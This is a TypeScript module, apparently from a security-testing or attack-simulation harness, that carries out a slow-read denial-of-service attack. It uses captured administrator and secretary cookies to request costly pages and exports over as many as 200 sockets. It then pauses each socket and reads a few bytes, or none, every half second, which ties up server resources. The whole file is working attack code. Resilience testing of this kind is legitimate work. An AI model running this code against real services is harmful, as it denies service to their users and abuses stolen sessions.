import { setTimeout as sleep } from "node:timers/promises";
import type { Accounts } from "./attacker-accounts";
import { headOf } from "./raw";
import { type Scene, upTo } from "./scene";

const READ_EVERY_MS = 500;
/** Bytes that a slow reader takes each time. */
const SIP = 256;

type Wanted = [path: string, headers: Record<string, string>];

/** Returns the addresses of the answers that cost the product most. */
export function largeAnswers({ administrator, secretary }: Accounts): Wanted[] {
  return [
    ["/admin/users?pageSize=100", { cookie: administrator.cookie }],
    ["/api/me/export?format=csv", { cookie: secretary.cookie }],
  ];
}

/** Requests large answers and streams. Half of the readers take a few bytes a second, the others none. */
export async function readSlowly(scene: Scene): Promise<void> {
  const { job } = scene;
  const wanted: Wanted[] = [
    ...largeAnswers(job),
    [job.chunk, {}],
    ["/api/live", { cookie: job.secretary.cookie }],
  ];
  const opened = upTo(job.small ? 40 : 200).map(async (n) => {
    const socket = await scene.connect(job.elsewhere[n % job.elsewhere.length] ?? "");
    if (!socket) return;
    socket.pause();
    const [path, headers] = wanted[n % wanted.length] ?? ["/", {}];
    socket.write(headOf("GET", path, headers));
    const sips = Math.floor(n / wanted.length) % 2 === 0;
    while (!scene.isOver() && !socket.destroyed) {
      await sleep(READ_EVERY_MS);
      if (sips) socket.read(SIP);
    }
  });
  await Promise.all(opened);
  scene.result.facts.push(`${opened.length} readers`);
}
